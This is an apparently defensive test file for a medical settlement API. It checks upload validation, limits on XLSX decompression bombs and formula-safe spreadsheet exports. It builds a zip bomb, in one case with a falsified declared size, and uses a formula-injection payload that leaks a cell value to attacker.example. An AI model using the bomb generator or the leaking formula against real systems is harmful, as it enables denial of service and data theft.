import ExcelJS from 'exceljs';
import { createDeflateRaw } from 'node:zlib';
import { BusinessClock } from '../../src/common/business-clock';
import { approvedAllocation, CommunityFixture, createCommunityFixture, SMALL_COUNTY } from '../support/registry-fixtures';
import { outpatientRecord } from '../support/settlement-records';
import { ApiClient, RunningApi, startApi } from '../support/test-app';
import { xlsxWorkbook } from '../support/xlsx';

type Detail = { row?: number; field: string; rule: string };
const named = (details: Detail[]) => details.map((d) => `${d.row ?? '-'}:${d.field}:${d.rule}`);

/** Limits this file's API runs with (config: UPLOAD_MAX_*). */
const MAX_UNCOMPRESSED = 4 * 1024 * 1024;
const MAX_ROWS = 100;
const MAX_COLUMNS = 30;

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(chunks: Buffer[], seed = 0): number {
  let c = ~seed >>> 0;
  for (const b of chunks) for (let i = 0; i < b.length; i++) c = CRC_TABLE[(c ^ b[i]) & 0xff] ^ (c >>> 8);
  return ~c >>> 0;
}

interface ZipEntry {
  name: string;
  /** Deflated bytes. */
  data: Buffer;
  crc: number;
  /** The uncompressed size the archive declares (a hostile archive may lie). */
  declaredSize: number;
}

/** A ZIP archive of deflated entries, written by hand so that its sizes can be what a hostile client wants. */
function zipOf(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(e.crc, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.declaredSize, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(e.crc, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.declaredSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** Deflates `head`, `repeat` copies of `chunk` and `tail` without ever holding the whole text. */
async function deflated(head: string, chunk: string, repeat: number, tail: string): Promise<{ data: Buffer; crc: number; size: number }> {
  const out: Buffer[] = [];
  const deflate = createDeflateRaw({ level: 9 });
  deflate.on('data', (b: Buffer) => out.push(b));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const parts = [Buffer.from(head), Buffer.from(chunk), Buffer.from(tail)];
  let crc = crc32([parts[0]]);
  let size = parts[0].length;
  deflate.write(parts[0]);
  for (let i = 0; i < repeat; i++) {
    crc = crc32([parts[1]], crc);
    size += parts[1].length;
    if (!deflate.write(parts[1])) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  crc = crc32([parts[2]], crc);
  size += parts[2].length;
  deflate.end(parts[2]);
  await done;
  return { data: Buffer.concat(out), crc, size };
}

const SMALL_PARTS: [string, string][] = [
  [
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
  ],
  [
    '_rels/.rels',
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
  ],
  [
    'xl/workbook.xml',
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
  ],
  [
    'xl/_rels/workbook.xml.rels',
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  ],
];

/** A workbook of about 70 KB whose sheet XML expands to `megabytes` MB; `lie`: the archive declares it tiny. */
async function xlsxBomb(megabytes: number, lie: boolean): Promise<Buffer> {
  const entries: ZipEntry[] = [];
  for (const [name, text] of SMALL_PARTS) {
    const d = await deflated(text, '', 0, '');
    entries.push({ name, data: d.data, crc: d.crc, declaredSize: d.size });
  }
  const row = '<row><c t="inlineStr"><is><t>x</t></is></c></row>';
  const chunk = row.repeat(Math.floor((1024 * 1024) / row.length));
  const sheet = await deflated(
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
    chunk,
    megabytes,
    '</sheetData></worksheet>',
  );
  entries.push({ name: 'xl/worksheets/sheet1.xml', data: sheet.data, crc: sheet.crc, declaredSize: lie ? 1000 : sheet.size });
  return zipOf(entries);
}

async function xlsxOf(rows: unknown[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('结算记录');
  for (const r of rows) sheet.addRow(r);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

const csvOf = (rows: Record<string, unknown>[]) =>
  [Object.keys(rows[0]).join(','), ...rows.map((r) => Object.values(r).join(','))].join('\r\n') + '\r\n';

describe('hostile files: intake refuses instead of coercing, XLSX bombs are bounded, exports never carry formulas', () => {
  let api: RunningApi;
  let f: CommunityFixture;
  let clerk: ApiClient;
  const counts = async () => {
    const [{ records }] = await api.dataSource.query('SELECT COUNT(*) AS records FROM settlement_record');
    const [{ batches }] = await api.dataSource.query('SELECT COUNT(*) AS batches FROM intake_batch');
    return { records: Number(records), batches: Number(batches) };
  };
  const record = (id: string, over: Record<string, unknown> = {}) => outpatientRecord(id, f.townships[0], over);

  beforeAll(async () => {
    api = await startApi({
      BUSINESS_DATE: '2026-10-31',
      UPLOAD_MAX_UNCOMPRESSED_BYTES: String(MAX_UNCOMPRESSED),
      UPLOAD_MAX_ROWS: String(MAX_ROWS),
      UPLOAD_MAX_COLUMNS: String(MAX_COLUMNS),
    });
    f = await createCommunityFixture(api, 1);
    clerk = await f.as(['MEMBER_CLERK'], f.townships[0]);
  });
  afterAll(() => api.close());

  describe('defect 9: intake refuses what it used to coerce or drop', () => {
    it('refuses a number or boolean externalId and an object or array in a text field (JSON), naming row and field', async () => {
      const before = await counts();
      const res = await clerk.post('/api/v1/settlement-records', {
        records: [
          record('J-1'),
          record('J-2', { externalId: 12345 }),
          record('J-3', { externalId: true }),
          record('J-4', { diagnosisCode: { code: 'J18.9' } }),
          record('J-5', { referralNo: ['R-1'] }),
          record('J-6', { insuredTownshipCode: 42 }),
        ],
      });
      expect(res.status).toBe(422);
      expect(res.body.code).toBe('BATCH_REJECTED');
      expect(named(res.body.details)).toEqual([
        '2:externalId:string',
        '3:externalId:string',
        '4:diagnosisCode:string',
        '5:referralNo:string',
        '6:insuredTownshipCode:string',
      ]);
      expect(await counts()).toEqual(before);
    });

    it('refuses a control character or NUL in a CSV cell, naming row and column', async () => {
      const before = await counts();
      const csv = csvOf([
        record('C-1', { referralNo: 'R-1' }),
        record('C-2', { referralNo: 'R\u0007X' }),
        record('C-3\u0000', { referralNo: 'R-3' }),
      ]);
      const res = await clerk.upload('/api/v1/settlement-records/upload', csv, 'october.csv');
      expect(res.status).toBe(422);
      expect(res.body.code).toBe('TEXT_MALFORMED');
      expect(named(res.body.details)).toEqual(['3:referralNo:wellFormedText', '4:externalId:wellFormedText']);
      expect(await counts()).toEqual(before);
    });

    it('refuses a repeated column header instead of letting the last column win (CSV and XLSX)', async () => {
      const before = await counts();
      const r = record('D-1');
      const header = [...Object.keys(r), 'externalId'];
      const csv = [header.join(','), [...Object.values(r), 'D-2'].join(',')].join('\r\n');
      const res = await clerk.upload('/api/v1/settlement-records/upload', csv, 'october.csv');
      expect(res.status).toBe(422);
      expect(named(res.body.details)).toEqual(['1:externalId:uniqueColumn']);
      const xlsx = await clerk.upload('/api/v1/settlement-records/upload', await xlsxOf([header, [...Object.values(r), 'D-2']]), 'o.xlsx');
      expect(xlsx.status).toBe(422);
      expect(named(xlsx.body.details)).toEqual(['1:externalId:uniqueColumn']);
      expect(await counts()).toEqual(before);
    });

    it('refuses an upload holding a second file (400) instead of ignoring it', async () => {
      const before = await counts();
      const form = new FormData();
      form.append('file', new Blob([csvOf([record('F-1')])]), 'one.csv');
      form.append('other', new Blob([csvOf([record('F-2')])]), 'two.csv');
      const res = await fetch(`${api.baseUrl}/api/v1/settlement-records/upload`, {
        method: 'POST',
        body: form,
        headers: { authorization: `Bearer ${clerk.token}` },
      });
      expect(res.status).toBe(400);
      expect(named(((await res.json()) as { details: Detail[] }).details)).toEqual(['-:file:singleFile']);
      expect(await counts()).toEqual(before);
    });

    it('the institution import refuses two headers naming one field, and a second file', async () => {
      const [{ n: before }] = await api.dataSource.query('SELECT COUNT(*) AS n FROM institution');
      const csv = `code,机构编码,name,type,countyCode\r\n${f.county}-X1,${f.county}-X2,卫生院,TOWNSHIP_CENTER,${f.county}\r\n`;
      const res = await f.admin.upload('/api/v1/institutions/import', csv, 'institutions.csv');
      expect(res.status).toBe(422);
      expect(named(res.body.details)).toEqual(['1:机构编码:uniqueColumn']);
      const form = new FormData();
      form.append('file', new Blob([csv]), 'one.csv');
      form.append('file', new Blob([csv]), 'two.csv');
      const two = await fetch(`${api.baseUrl}/api/v1/institutions/import`, {
        method: 'POST',
        body: form,
        headers: { authorization: `Bearer ${f.admin.token}` },
      });
      expect(two.status).toBe(400);
      const [{ n: after }] = await api.dataSource.query('SELECT COUNT(*) AS n FROM institution');
      expect(Number(after)).toBe(Number(before));
    });

    it('still takes a good XLSX (streamed), dates included', async () => {
      const r = record('X-1', { visitDate: new Date('2026-10-08T00:00:00Z'), settlementDate: new Date('2026-10-08T00:00:00Z') });
      const res = await clerk.upload('/api/v1/settlement-records/upload', await xlsxOf([Object.keys(r), Object.values(r)]), 'o.xlsx');
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ received: 1, stored: 1 });
    });
  });

  describe('defect 11: XLSX bombs and oversized tables', () => {
    // Bound: reading a 60 MB bomb must not grow the process by more than 40 MB (the bomb
    // expands to 60 MB of XML, which the old in-memory parse held as text and objects).
    const RSS_BOUND = 40 * 1024 * 1024;

    it.each([
      ['declares its true size', false],
      ['lies about its size', true],
    ])('refuses a 60 MB bomb that %s with 413 naming the limit, in bounded memory', async (_name, lie) => {
      const bomb = await xlsxBomb(60, lie);
      expect(bomb.length).toBeLessThan(200 * 1024);
      const before = await counts();
      global.gc?.();
      const rss = process.memoryUsage().rss;
      const res = await clerk.upload('/api/v1/settlement-records/upload', bomb, 'bomb.xlsx');
      const grown = process.memoryUsage().rss - rss;
      expect(res.status).toBe(413);
      expect(res.body.code).toBe('FILE_TOO_LARGE');
      expect(named(res.body.details)).toEqual(['-:file:maxUncompressedBytes']);
      expect(res.body.details[0].message).toContain(String(MAX_UNCOMPRESSED));
      expect(grown).toBeLessThan(RSS_BOUND);
      expect(await counts()).toEqual(before);
    });

    it('refuses more rows or more columns than the limits (422 naming the limit), XLSX and CSV', async () => {
      const before = await counts();
      const r = record('R-1');
      const manyRows = [Object.keys(r), ...Array.from({ length: MAX_ROWS + 1 }, (_, i) => Object.values(record(`R-${i}`)))];
      const rows = await clerk.upload('/api/v1/settlement-records/upload', await xlsxOf(manyRows), 'rows.xlsx');
      expect(rows.status).toBe(422);
      expect(rows.body).toMatchObject({ code: 'FILE_TOO_MANY_ROWS' });
      expect(named(rows.body.details)).toEqual(['-:file:maxRows']);
      expect(rows.body.details[0].message).toContain(String(MAX_ROWS));
      const csvRows = await clerk.upload('/api/v1/settlement-records/upload', manyRows.map((l) => l.join(',')).join('\n'), 'rows.csv');
      expect(csvRows.status).toBe(422);
      expect(named(csvRows.body.details)).toEqual(['-:file:maxRows']);

      const wide = [[...Object.keys(r), ...Array.from({ length: MAX_COLUMNS }, (_, i) => `extra${i}`)]];
      const cols = await clerk.upload('/api/v1/settlement-records/upload', await xlsxOf(wide), 'wide.xlsx');
      expect(cols.status).toBe(422);
      expect(cols.body).toMatchObject({ code: 'FILE_TOO_MANY_COLUMNS' });
      expect(named(cols.body.details)).toEqual(['1:file:maxColumns']);
      expect(cols.body.details[0].message).toContain(String(MAX_COLUMNS));
      expect(await counts()).toEqual(before);
    });
  });

  describe('defect 9: exports write user text as text, never as a formula', () => {
    it('an analysis whose summary is =HYPERLINK(...) exports it as a plain string cell', async () => {
      await approvedAllocation(f, 2026, SMALL_COUNTY);
      const lead = await f.as(['LEAD_FINANCE'], f.lead);
      api.app.get(BusinessClock).fix('2027-01-05');
      const doc = await lead.must('POST', `/api/v1/communities/${f.community}/fund-analyses`, { fundYear: 2026, quarter: 4 });
      const payload = '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")';
      await lead.must('PATCH', `/api/v1/fund-analyses/${doc.id}`, {
        version: doc.version,
        summary: payload,
        risks: '+1+1',
        measures: '@SUM(1)',
      });
      const wb = await xlsxWorkbook(lead, `/api/v1/fund-analyses/${doc.id}/export.xlsx`);
      const found: ExcelJS.Cell[] = [];
      wb.worksheets[0].eachRow((row) =>
        row.eachCell((cell) => {
          if (['总体情况', '存在的风险和问题', '下一步措施'].includes(String(row.getCell(1).value)) && Number(cell.col) === 2)
            found.push(cell);
        }),
      );
      expect(found.map((c) => c.value)).toEqual([payload, '+1+1', '@SUM(1)']);
      for (const cell of found) {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
      }
    });
  });
});
